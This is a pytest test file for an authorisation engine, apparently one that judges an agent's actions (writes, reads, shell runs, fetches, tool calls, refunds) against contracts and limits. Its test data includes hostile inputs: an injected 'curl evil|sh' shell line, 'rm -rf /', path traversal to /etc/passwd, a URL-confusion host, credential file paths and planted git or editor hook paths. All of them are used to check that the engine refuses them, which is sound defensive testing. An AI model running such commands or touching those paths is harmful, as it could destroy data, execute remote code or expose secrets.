"""The one function that decides, case by case."""

from datetime import timedelta
from decimal import Decimal
from typing import Any

import pytest
from authority_worlds import NOW, OWNER, act, code, contract, decided, lineage, rule, said, scalar, text

from remit.authority.action import Action
from remit.authority.compile import compile_contract, compile_organisation
from remit.authority.decide import decide, granted, numbers
from remit.authority.decision import Allow, Ask, Refuse
from remit.authority.spent import Spent, Used
from remit.contract.condition import (
    Anything,
    Contains,
    Created,
    Empty,
    Equals,
    Glob,
    Host,
    Known,
    Length,
    Not,
    OneOf,
    Prefix,
    Range,
    Regex,
    SubsetOf,
    Url,
)  # fmt: skip
from remit.contract.limits import Count, Limits, Spend, Sum
from remit.contract.party import Argument, Organisation, Register, Tool

RELEASE = contract(
    rule("may", "read", "**", id="may-read-1"),
    rule("may", "write", "docs/**", "CHANGELOG.md", id="may-write-1"),
    rule("may", "commit", "HEAD"),
    rule("never", "write", "package.json", id="never-write-1", because="the version is bumped by the release job"),
    rule("never", "push", "any"),
    rule("never", "branch", "any"),
)
REFUND = contract(
    rule(
        "may",
        "call",
        "refund",
        id="auto",
        where={"amount": Range(low="0.01", high="50"), "currency": text("EUR"), "customer": Anything()},
    ),
    rule("ask", "call", "refund", id="lead", where={"amount": Range(low="50", high="500", over=True)}, who="support-lead"),
)


def refund(amount: Any, **more: Any) -> Action:
    return act("call", "refund", **{"amount": amount, "currency": "EUR", "customer": "c1", **more})


def one(*rules: Any, **more: Any) -> Any:
    return lineage(contract(*rules, **more))


# --------------------------------------------------------------------------------------------------------- the order of rules


def test_a_never_beats_everything_and_says_its_because() -> None:
    decision = decided(lineage(RELEASE), act("write", "package.json"))
    assert isinstance(decision, Refuse)
    reason = decision.reasons[0]
    assert reason.why == "`package.json` must never be written: the version is bumped by the release job"
    assert (reason.code, reason.rule, reason.contract) == ("AUTHORITY", "never-write-1", RELEASE.hash())
    assert reason.instead == "you may write docs/**, CHANGELOG.md"


def test_what_nothing_covers_is_refused_with_what_is_covered() -> None:
    decision = decided(lineage(RELEASE), act("write", "src/a.py"))
    assert [(r.code, r.rule, r.instead) for r in decision.reasons] == [("UNCOVERED", None, "you may write docs/**, CHANGELOG.md")]


def test_an_ask_beats_a_may_and_keeps_it_as_considered() -> None:
    asking = one(rule("may", "write", "**", id="m"), rule("ask", "write", "docs/**", id="a"))
    decision = decided(asking, act("write", "docs/a.md"))
    assert isinstance(decision, Ask)
    assert [reason.rule for reason in decision.reasons] == ["a"]
    assert [reason.rule for reason in decision.considered] == ["m"]


def test_an_ask_alone_covers_its_action_as_ask() -> None:
    assert said(one(rule("ask", "write", "docs/**")), act("write", "docs/a.md")) == "ask"


@pytest.mark.parametrize(
    ("verb", "object_"), [("push", "origin"), ("branch", "x"), ("delete", "docs/a.md"), ("commit", "main"), ("tag", "v1")]
)
def test_the_release_contract_refuses_what_it_does_not_say(verb: Any, object_: str) -> None:
    assert said(lineage(RELEASE), act(verb, object_)) == "refuse"


def test_the_head_branch_is_committed_to() -> None:
    assert said(lineage(RELEASE), act("commit", "HEAD")) == "allow"


@pytest.mark.parametrize("verb", ["publish", "push", "delete"])
def test_an_uncovered_irreversible_act_says_so(verb: Any) -> None:
    assert code(one(rule("may", "read", "**")), act(verb, "thing")) == "IRREVERSIBLE"


def test_nobody_to_act_under_is_a_refusal() -> None:
    assert code((), act("read", "a")) == "UNCOVERED"
    assert code((compile_organisation(Organisation(rules=(rule("may", "read", "**"),))),), act("read", "a")) == "UNCOVERED"


# ------------------------------------------------------------------------------------------------------------ the lineage


def test_the_strictest_contract_of_the_lineage_stands_and_is_named() -> None:
    parent, child = contract(rule("may", "write", "docs/**")), contract(rule("may", "write", "**"))
    decision = decided(lineage(parent, child), act("write", "src/a"))
    assert [reason.contract for reason in decision.reasons] == [parent.hash()]
    assert [reason.contract for reason in decision.considered] == [child.hash()]


def test_everyone_asked_anywhere_in_the_lineage_is_asked() -> None:
    parent = contract(rule("ask", "write", "**", who="architect"))
    child = contract(rule("ask", "write", "**", who="reviewer"))
    decision = decided(lineage(parent, child), act("write", "a"))
    assert isinstance(decision, Ask)
    assert decision.of == ("architect", "reviewer")


def test_the_owner_of_another_contract_goes_by_id() -> None:
    parent = contract(rule("ask", "write", "**"), owner="head@example.com")
    decision = decided(lineage(parent, contract(rule("ask", "write", "**"))), act("write", "a"))
    assert isinstance(decision, Ask)
    assert decision.of == ("head@example.com", "owner")


def test_the_ceiling_is_neutral_where_it_has_no_may_for_the_verb() -> None:
    organisation = Organisation(
        rules=(rule("may", "read", "docs/**"), rule("never", "write", "src/**"), rule("ask", "write", "docs/**"))
    )
    under = lineage(contract(rule("may", "read", "**"), rule("may", "write", "**")), organisation=organisation)
    assert said(under, act("write", "README.md")) == "allow"
    assert said(under, act("write", "src/a")) == "refuse"
    assert said(under, act("write", "docs/a")) == "ask"
    assert said(under, act("read", "docs/a")) == "allow"
    assert code(under, act("read", "src/a")) == "UNCOVERED"


def test_a_limit_of_the_ceiling_counts_even_where_it_is_neutral() -> None:
    organisation = Organisation(limits=Limits(counts=(Count(of="call", to=0),)))
    assert code(lineage(contract(rule("may", "call", "any")), organisation=organisation), act("call", "x")) == "LIMIT"


# ------------------------------------------------------------------------------------------------- amounts and hostile values


@pytest.mark.parametrize(
    ("amount", "expected"),
    [
        (Decimal("50.00"), "allow"), (Decimal("0.01"), "allow"), (50, "allow"), (Decimal("50.01"), "ask"), (500, "ask"),
        *((amount, "refuse") for amount in (
            501, Decimal("0.009"), 0, -5, Decimal("-0.01"), True, False, "50", "abc", None, [50], {"a": 50}, 2**70, 2**200,
            Decimal("NaN"), Decimal("sNaN"), Decimal("Infinity"), Decimal("-Infinity"), Decimal("1e400"), Decimal("1e-400"),
            100.5, 50.0, float("nan"),
        )),
    ],
)  # fmt: skip
def test_an_amount_is_read_strictly_and_bounded_on_both_sides(amount: Any, expected: str) -> None:
    assert said(lineage(REFUND), refund(amount)) == expected


@pytest.mark.parametrize("amount", [True, "50", "abc", [50], {}, None, Decimal("NaN"), float("inf"), -5])
def test_an_erring_never_is_never_skipped(amount: Any) -> None:
    under = one(
        rule("may", "call", "pay", where={"amount": Anything()}),
        rule("never", "call", "pay", where={"amount": Range(low="100", high="1000")}),
    )
    assert said(under, act("call", "pay", amount=amount)) == "refuse"
    assert said(under, act("call", "pay", amount=100)) == "refuse"
    assert said(under, act("call", "pay", amount=99)) == "allow"


def test_an_amount_on_the_rule_of_another_case_does_not_err() -> None:
    under = one(
        rule("may", "call", "x", where={"kind": text("pay"), "value": Range(low="0", high="5")}),
        rule("may", "call", "x", where={"value": Anything(), "kind": text("note")}, id="note"),
    )
    assert said(under, act("call", "x", kind="note", value="hello")) == "allow"
    assert code(under, act("call", "x", kind="pay", value="hello")) == "INPUTS"


def test_a_missing_argument_makes_may_fail_and_ask_and_never_match() -> None:
    assert said(lineage(REFUND), act("call", "refund", currency="EUR", customer="c1")) == "ask"
    never = one(rule("may", "call", "x"), rule("never", "call", "x", where={"to": text("boss")}))
    assert said(never, act("call", "x")) == "refuse"
    assert said(one(rule("may", "call", "x", where={"to": Anything()})), act("call", "x")) == "refuse"


@pytest.mark.parametrize("extra", ["cc", "bcc", "attachments", "participants"])
def test_an_argument_a_may_does_not_name_is_not_covered(extra: str) -> None:
    under = one(rule("may", "call", "mail", where={"to": text("a@example.com")}))
    decision = decided(under, act("call", "mail", to="a@example.com", **{extra: "x"}))
    assert isinstance(decision, Refuse)
    assert f"without `{extra}`" in decision.reasons[0].instead
    assert said(under, act("call", "mail", to="a@example.com")) == "allow"


@pytest.mark.parametrize("effect", ["ask", "never"])
def test_an_extra_argument_slips_past_no_ask_and_no_never(effect: Any) -> None:
    under = one(
        rule("may", "call", "x", where={"a": Anything(), "b": Anything()}), rule(effect, "call", "x", where={"a": text("bad")})
    )
    assert said(under, act("call", "x", a="bad", b=1)) == ("ask" if effect == "ask" else "refuse")
    assert said(under, act("call", "x", a="good", b=1)) == "allow"


@pytest.mark.parametrize(
    "arguments",
    [
        {"a": object()}, {"a": b"x"}, {"a": 1.5}, {"a": "\ud800"}, {1: 2}, {"a": {1: 2}}, {"a": "x" * 1_000_001},
        {"a": [0] * 10_001}, {"a" * 200: object()}, {str(index): "x" * 99 for index in range(20_000)},
    ],
)  # fmt: skip
def test_arguments_that_are_no_json_are_refused_as_inputs(arguments: Any) -> None:
    assert (
        code(one(rule("may", "call", "x", where={"a": Anything()})), Action(verb="call", object="x", arguments=arguments))
        == "INPUTS"
    )


def test_deep_arguments_are_refused_as_inputs() -> None:
    deep: Any = 1
    for _ in range(100):
        deep = [deep]
    assert code(one(rule("may", "call", "x", where={"a": Anything()})), act("call", "x", a=deep)) == "INPUTS"


# ------------------------------------------------------------------------------------------------------------- conditions

KNOWN = Organisation(registers=(Register(name="recipients", members=("a@example.com", "caf\u00e9@example.com")),))


@pytest.mark.parametrize(
    ("condition", "fits", "not_", "unjudged"),
    [
        (Equals(value=scalar("EUR")), ["EUR"], ["eur", "EUR ", "EURO"], [5, True, None, ["EUR"]]),
        (Equals(value=scalar(True)), [True], [False], ["true", 1, None]),
        (Equals(value=scalar(1)), [1, Decimal("1.0")], [2], [True, "1"]),
        (Equals(value=scalar(None)), [None], [], ["", 0, False]),
        (OneOf(values=(scalar("a"), scalar(2))), ["a", 2], ["b", 3], [True, None]),
        (SubsetOf(values=(scalar("a"), scalar("b"))), [["a"], ["b", "a"], []], [["c"], ["a", "c"]], [["a", 1], 5]),
        (Contains(text="b"), ["abc", ["b"]], ["x", ["x"]], [5, [5]]),
        (Prefix(text="ord-"), ["ord-1"], ["x-ord-1"], [5, ["ord-1"]]),
        (Glob(pattern="docs/**"), ["docs/a"], ["src/a", "x/docs/a"], ["docs/../etc", "/docs/a", "docs/a\nb", "./docs/a", 5]),
        (Regex(pattern="v[0-9]+"), ["v12"], ["v12x", "xv12", "v12\n"], [5]),
        (Host(pattern="*.corp.com:443"), ["a.corp.com"], ["corp.com", "evilcorp.com", "a.corp.com:80"], ["a@a.corp.com", "http://a.corp.com"]),
        (Url(prefix="https://a.com/v1"), ["https://a.com/v1/x"], ["https://a.com/v10"], ["https://a.com/v1/../x", "a.com"]),
        (Length(low=1, high=3), ["abc", [1]], ["", "abcd"], [5, None]),
        (Empty(), ["", []], ["a", [1]], [0, None, False]),
        (Known(register="recipients"), ["a@example.com", ["a@example.com"], "cafe\u0301@example.com"],
         ["A@example.com", "a@example.com, b@example.com", [], ["a@example.com", "b"]], [5]),
        (Created(), ["file-1", 7, ["file-1", 7]], ["file-2", [], ["file-1", "x"]], [True, None]),
        (Not(condition=Known(register="recipients")), ["b", []], ["a@example.com"], [5]),
        (Range(low="0", high="10", over=True), [1, 10], [0, 11], []),
        (Range(low="-5", high="5"), [-5, 5], [-6], []),
    ],
)  # fmt: skip
def test_a_condition_holds_fails_or_cannot_be_judged(
    condition: Any, fits: list[Any], not_: list[Any], unjudged: list[Any]
) -> None:
    spent = Spent(created=frozenset({"file-1", "7"}))

    def met(effect: Any, value: Any) -> bool:
        rules = [rule(effect, "call", "x", where={"v": condition})]
        if effect != "may":
            rules.append(rule("may", "call", "x", where={"v": Anything()}, id="free"))
        word = said(lineage(contract(*rules), organisation=KNOWN), act("call", "x", v=value), spent=spent)
        return word == {"may": "allow", "ask": "ask", "never": "refuse"}[effect]

    for effect in ("may", "ask", "never"):
        assert [value for value in fits if not met(effect, value)] == []
        assert [value for value in not_ if met(effect, value)] == []
        assert [value for value in unjudged if met(effect, value) is (effect == "may")] == []


def test_a_rule_that_makes_no_sense_refuses_what_it_would_meet_and_is_named() -> None:
    for condition in (
        Regex(pattern="("),
        Known(register="nobody"),
        Range(low="x", high="5"),
        Range(low="5", high="1"),
        Range(low="0", high="inf"),
    ):
        under = one(
            rule("may", "call", "x", where={"v": Anything()}), rule("ask", "call", "x", id="broken", where={"v": condition})
        )
        decision = decided(under, act("call", "x", v="1"))
        assert [(reason.code, reason.rule) for reason in decision.reasons] == [("RULE-ERROR", "broken")]
    assert code(one(rule("may", "fetch", "https://u@x/"), rule("may", "fetch", "any")), act("fetch", "a.com:443")) == "RULE-ERROR"


def test_a_backreference_that_would_not_be_linear_is_a_faulty_rule() -> None:
    assert code(one(rule("may", "call", "x", where={"v": Regex(pattern=r"(a)\1")})), act("call", "x", v="aa")) == "RULE-ERROR"


# ------------------------------------------------------------------------------------------------------- paths and commands


@pytest.mark.parametrize(
    "path", ["docs/../etc/passwd", "./docs/a", "/docs/a", "docs/./a", "docs//a", "docs/a\nb", "docs\\a", "", "docs/a\0"]
)
def test_a_dishonest_path_is_refused_as_input(path: str) -> None:
    assert code(lineage(RELEASE), act("write", path)) == "INPUTS"


def test_never_and_action_meet_in_any_spelling_of_a_letter() -> None:
    under = one(rule("may", "write", "**"), rule("never", "write", "caf\u00e9.md"))
    assert said(under, act("write", "cafe\u0301.md")) == "refuse"


def test_any_among_paths_is_the_file_of_that_name() -> None:
    assert said(one(rule("may", "write", "any")), act("write", "src/a.py")) == "refuse"
    assert said(one(rule("may", "write", "any")), act("write", "any")) == "allow"


@pytest.mark.parametrize("secret", [".env", "a/.env.local", "deploy/id_rsa", "x.pem", "a/.aws/config", "server/tls.key"])
def test_a_secret_is_read_only_where_a_rule_names_it(secret: str) -> None:
    assert code(one(rule("may", "read", "**")), act("read", secret)) == "SECRET"
    assert code(one(rule("may", "read", "**"), rule("ask", "read", "*/**")), act("read", secret)) == "SECRET"
    assert said(one(rule("may", "read", secret)), act("read", secret)) == "allow"
    assert said(one(rule("never", "read", "**")), act("read", secret)) == "refuse"


def test_a_secret_is_named_by_a_last_segment_that_looks_like_one() -> None:
    assert said(one(rule("may", "read", "**/.env*")), act("read", "a/.env.local")) == "allow"
    assert said(one(rule("may", "read", ".aws/**")), act("read", ".aws/config")) == "allow"
    assert code(one(rule("may", "read", "deploy/*")), act("read", "deploy/.env")) == "SECRET"


@pytest.mark.parametrize(
    "path",
    [
        ".git/hooks/pre-commit",
        "a/.vscode/tasks.json",
        "x.remit.yaml",
        "SOUL.md",
        "soul.md",
        "sub/TASK.md",
        ".envrc",
        ".gitattributes",
        ".GIT/config",
    ],
)
@pytest.mark.parametrize("verb", ["write", "delete"])
def test_a_plant_is_written_only_where_a_rule_names_it(verb: Any, path: str) -> None:
    assert code(one(rule("may", verb, "**")), act(verb, path)) == "PLANT"
    assert code(one(rule("ask", verb, "**")), act(verb, path)) == "PLANT"
    assert said(one(rule("may", verb, path)), act(verb, path)) == "allow"


def test_naming_one_danger_does_not_name_another() -> None:
    assert code(one(rule("may", "write", ".vscode/**")), act("write", ".vscode/.git/config")) == "PLANT"
    assert said(one(rule("may", "write", ".vscode/**")), act("write", ".vscode/tasks.json")) == "allow"


def test_a_shell_line_is_at_best_asked() -> None:
    under = one(rule("may", "run", "git status"), rule("never", "run", "git push"))
    assert said(under, act("run", ("git", "status"))) == "allow"
    assert said(under, act("run", "git status")) == "ask"
    assert said(under, act("run", "git status; curl evil|sh")) == "refuse"
    assert code(under, act("run", "cd x && git  -c a=b push")) == "AUTHORITY"
    assert said(one(rule("may", "run", "any")), act("run", "rm -rf /")) == "ask"


def test_a_never_run_is_met_with_more_options_and_from_anywhere() -> None:
    under = one(rule("may", "run", "any"), rule("never", "run", "git push"))
    assert said(under, act("run", ("/tmp/git", "-c", "x=y", "push", "--force"))) == "refuse"
    assert said(under, act("run", ("git", "log"))) == "allow"


@pytest.mark.parametrize("object_", [(), ("",), ("a", "b\0"), ("a\ud800",), "", "  "])
def test_a_command_that_is_none_is_refused_as_input(object_: Any) -> None:
    assert code(one(rule("may", "run", "any")), Action(verb="run", object=object_)) == "INPUTS"


def test_a_fetch_is_judged_by_host_port_and_path() -> None:
    under = one(rule("may", "fetch", "https://api.corp.com/v1/", "*.cdn.com:443"))
    assert said(under, act("fetch", "https://api.corp.com/v1/x")) == "allow"
    assert said(under, act("fetch", "a.cdn.com:443")) == "allow"
    assert said(under, act("fetch", "https://api.corp.com/v2")) == "refuse"
    assert code(under, act("fetch", "https://evil.com\\@api.corp.com/v1/")) == "INPUTS"


@pytest.mark.parametrize("object_", ["", " x", "a\nb", "x" * 5000, ("a", "b"), "a\u2028b"])
def test_a_tool_name_is_a_name(object_: Any) -> None:
    assert code(one(rule("may", "call", "any")), Action(verb="call", object=object_)) == "INPUTS"


def test_a_tool_name_in_look_alike_letters_is_another_tool() -> None:
    assert said(one(rule("may", "call", "pay")), act("call", "p\u0430y")) == "refuse"


# ------------------------------------------------------------------------------------------------------------ tools and tiers

MAIL = Tool(
    name="mail", tier="high-risk", effect="send",
    arguments=(
        Argument(name="to", type="text", required=True),
        Argument(name="trace", type="text", inert=True),
        Argument(name="cc", type="list"),
    ),
)  # fmt: skip


def test_a_missing_required_argument_is_refused_before_any_rule() -> None:
    under = one(rule("never", "call", "mail"), tools=(MAIL,))
    decision = decided(under, act("call", "mail"))
    assert (decision.reasons[0].code, "`to`" in decision.reasons[0].why) == ("INPUTS", True)
    assert code(under, act("call", "mail", to=None)) == "INPUTS"
    assert code(under, act("call", "mail", to=5)) == "INPUTS"
    assert code(under, act("call", "mail", to="x")) == "AUTHORITY"


def test_an_inert_argument_need_not_be_named_and_an_undeclared_one_is_refused() -> None:
    under = one(rule("may", "call", "mail", where={"to": Anything()}), tools=(MAIL,))
    assert said(under, act("call", "mail", to="x", trace="t")) == "allow"
    assert code(under, act("call", "mail", to="x", cc=["y"])) == "IRREVERSIBLE"
    assert code(under, act("call", "mail", to="x", bcc="y")) == "UNCOVERED"
    asking = one(rule("ask", "call", "mail"), tools=(MAIL,))
    assert code(asking, act("call", "mail", to="x", bcc="y")) == "UNCOVERED"


@pytest.mark.parametrize(
    ("tier", "effect", "nothing", "covered", "approved"),
    [
        ("read-only", "read", "refuse", "allow", "allow"),
        ("read-only", "send", "refuse", "refuse", "refuse"),
        ("bounded", "execute", "refuse", "allow", "allow"),
        ("high-risk", "send", "refuse", "allow", "allow"),
        ("human-approved", "send", "refuse", "ask", "allow"),
        ("human-approved", "read", "refuse", "ask", "allow"),
    ],
)
def test_a_tier_is_a_ceiling(tier: Any, effect: Any, nothing: str, covered: str, approved: str) -> None:
    from remit.authority.approval import Approval

    tool = Tool(name="t", tier=tier, effect=effect)
    granting = contract(rule("may", "call", "t"), tools=(tool,))
    assert said(one(rule("may", "call", "other"), tools=(tool,)), act("call", "t")) == nothing
    assert said(lineage(granting), act("call", "t")) == covered
    yes = Approval(action=act("call", "t").digest(), contract=granting.hash(), person=OWNER)
    assert said(lineage(granting), act("call", "t"), approvals=(yes,)) == approved


def test_the_organisations_word_on_a_tool_stands_over_the_contracts() -> None:
    organisation = Organisation(tools=(Tool(name="t", tier="human-approved"),))
    under = lineage(contract(rule("may", "call", "t"), tools=(Tool(name="t", tier="bounded"),)), organisation=organisation)
    assert said(under, act("call", "t")) == "ask"


def test_without_an_owner_nothing_with_consequence_happens() -> None:
    ownerless = one(rule("may", "call", "any"), rule("may", "read", "**"), rule("ask", "write", "**"), owner="")
    assert code(ownerless, act("call", "refund")) == "RISK-OWNER"
    assert code(ownerless, act("write", "a")) == "RISK-OWNER"
    assert said(ownerless, act("read", "a")) == "allow"


# ----------------------------------------------------------------------------------------------------- times, sums and limits


def test_a_rule_that_counts_is_used_up() -> None:
    granting = contract(rule("may", "delegate", "claude", id="m", times=2))
    key = (granting.hash(), "m")
    assert said(lineage(granting), act("delegate", "claude"), spent=Spent(times={key: 1})) == "allow"
    decision = decided(lineage(granting), act("delegate", "claude"), spent=Spent(times={key: 2}))
    assert [(reason.code, reason.rule) for reason in decision.reasons] == [("LIMIT", "m")]


def test_a_used_up_ask_does_not_uncover_the_may_below_it() -> None:
    asking = contract(rule("may", "write", "**"), rule("ask", "write", "docs/**", id="a", times=1))
    assert code(lineage(asking), act("write", "docs/a"), spent=Spent(times={(asking.hash(), "a"): 1})) == "LIMIT"


def test_granted_names_the_rules_of_the_whole_lineage_that_let_it_happen() -> None:
    parent, child = contract(rule("may", "write", "**", id="p")), contract(rule("may", "write", "docs/**", id="c"))
    under = lineage(parent, child)
    decision = decided(under, act("write", "docs/a"))
    assert granted(under, act("write", "docs/a"), decision) == ((parent.hash(), "p"), (child.hash(), "c"))
    assert granted(under, act("write", "x"), decided(under, act("write", "x"))) == ()


def used(amount: str, *, customer: str = "c1", minutes: float = 1, run: str = "r1", object_: str = "refund") -> Used:
    return Used(
        at=NOW - timedelta(minutes=minutes),
        run=run,
        verb="call",
        object=object_,
        arguments={"amount": amount, "customer": customer},
    )


def summing(**more: Any) -> Any:
    window = Sum(of="refund.amount", per="customer", within=3600, **{"to": "200", **more})
    return one(*REFUND.rules, limits=Limits(sums=(window,)))


def test_a_sum_counts_this_action_and_reaches_its_limit_exactly() -> None:
    three = tuple(used("50.00") for _ in range(3))
    assert said(summing(), refund(Decimal("50.00")), spent=Spent(used=three)) == "allow"
    assert code(summing(), refund(Decimal("50.00")), spent=Spent(used=(*three, used("0.01")))) == "LIMIT"
    assert said(summing(then="ask"), refund(Decimal("50.00")), spent=Spent(used=(*three, used("0.01")))) == "ask"


def test_a_sum_forgets_what_left_its_window_and_other_groups() -> None:
    old = (used("200", minutes=60), used("200", customer="c2"), used("200", object_="mail"))
    assert said(summing(), refund(1), spent=Spent(used=old)) == "allow"
    assert said(summing(), refund(1), spent=Spent(used=(used("200", minutes=59.9),))) == "refuse"


def test_a_sum_of_the_run_leaves_other_runs_alone() -> None:
    elsewhere = (used("200", run="r2"),)
    assert said(summing(scope="run"), refund(1), spent=Spent(run="r1", used=elsewhere)) == "allow"
    assert said(summing(), refund(1), spent=Spent(run="r1", used=elsewhere)) == "refuse"


def test_a_group_is_not_dodged_by_another_type_or_by_leaving_it_out() -> None:
    spent = Spent(used=(used("200", customer="7"),))
    assert said(summing(), refund(1, customer=7), spent=spent) == "refuse"
    assert said(summing(), refund(1, customer=Decimal("7.0")), spent=spent) == "refuse"
    free = one(
        rule("may", "call", "refund", where={"amount": Anything()}),
        limits=Limits(sums=(Sum(of="refund.amount", per="customer", to="200"),)),
    )
    assert said(free, act("call", "refund", amount=1), spent=spent) == "refuse"


@pytest.mark.parametrize("amount", [-1, "50", True, None])
def test_what_a_sum_cannot_add_is_refused(amount: Any) -> None:
    free = one(
        rule("may", "call", "refund", where={"amount": Anything()}), limits=Limits(sums=(Sum(of="refund.amount", to="200"),))
    )
    assert code(free, act("call", "refund", amount=amount)) == "LIMIT"
    assert said(free, act("call", "refund", amount=200)) == "allow"


def test_a_sum_never_rounds() -> None:
    free = one(
        rule("may", "call", "refund", where={"amount": Anything()}), limits=Limits(sums=(Sum(of="refund.amount", to="1e33"),))
    )
    tiny = Decimal("1e-34")
    assert said(free, act("call", "refund", amount=tiny), spent=Spent(used=(used("1e33"),))) == "refuse"


def test_a_count_over_a_verb_or_a_tool() -> None:
    for of in ("call", "refund"):
        under = one(*REFUND.rules, limits=Limits(counts=(Count(of=of, within=60, to=2),)))
        assert said(under, refund(1), spent=Spent(used=(used("1", minutes=0.5),))) == "allow"
        assert code(under, refund(1), spent=Spent(used=(used("1", minutes=0.5), used("1", minutes=0.5)))) == "LIMIT"


def test_numbers_are_what_windows_of_any_contract_need_as_text() -> None:
    both = lineage(
        contract(rule("may", "call", "any"), limits=Limits(sums=(Sum(of="refund.amount", per="customer", to="9"),))), REFUND
    )
    assert numbers(both, refund(Decimal("50.00"))) == {"amount": "50", "customer": "c1"}
    assert numbers(both, act("read", "a")) == {}


@pytest.mark.parametrize(
    ("limits", "spend"),
    [
        (Limits(turns=5), Spend(turns=5)),
        (Limits(calls=1), Spend(calls=1)),
        (Limits(tokens=10), Spend(tokens=11)),
        (Limits(usd=10), Spend(usd=10)),
        (Limits(time=10), Spend(time=10.5)),
    ],
)
def test_a_used_up_limit_of_any_ancestor_refuses_what_costs(limits: Limits, spend: Spend) -> None:
    parent, child = (
        contract(rule("may", "call", "any"), rule("may", "write", "**"), limits=limits),
        contract(rule("may", "call", "any"), rule("may", "write", "**")),
    )
    spent = Spent(spend={parent.hash(): spend})
    assert code(lineage(parent, child), act("call", "x"), spent=spent) == "LIMIT"
    assert said(lineage(parent, child), act("call", "x")) == "allow"
    assert said(lineage(parent, child), act("write", "a"), spent=spent) == "allow"  # what the last turn wrote is still judged


def test_an_unlocked_recovery_rule_counts_only_once_it_is_unlocked() -> None:
    extra = rule("may", "write", "broken-links.md")
    assert said(lineage(RELEASE), act("write", "broken-links.md")) == "refuse"
    assert said((compile_contract(RELEASE, unlocked=(extra,)),), act("write", "broken-links.md")) == "allow"
    assert compile_contract(RELEASE, unlocked=(extra,)).hash == RELEASE.hash()


def test_an_allow_always_says_which_rule() -> None:
    decision = decide(lineage(RELEASE), act("write", "docs/a"), spent=Spent(), now=NOW)
    assert isinstance(decision, Allow)
    assert [(reason.code, reason.rule, reason.why) for reason in decision.reasons] == [
        ("ALLOWED", "may-write-1", "may write docs/**, CHANGELOG.md")
    ]
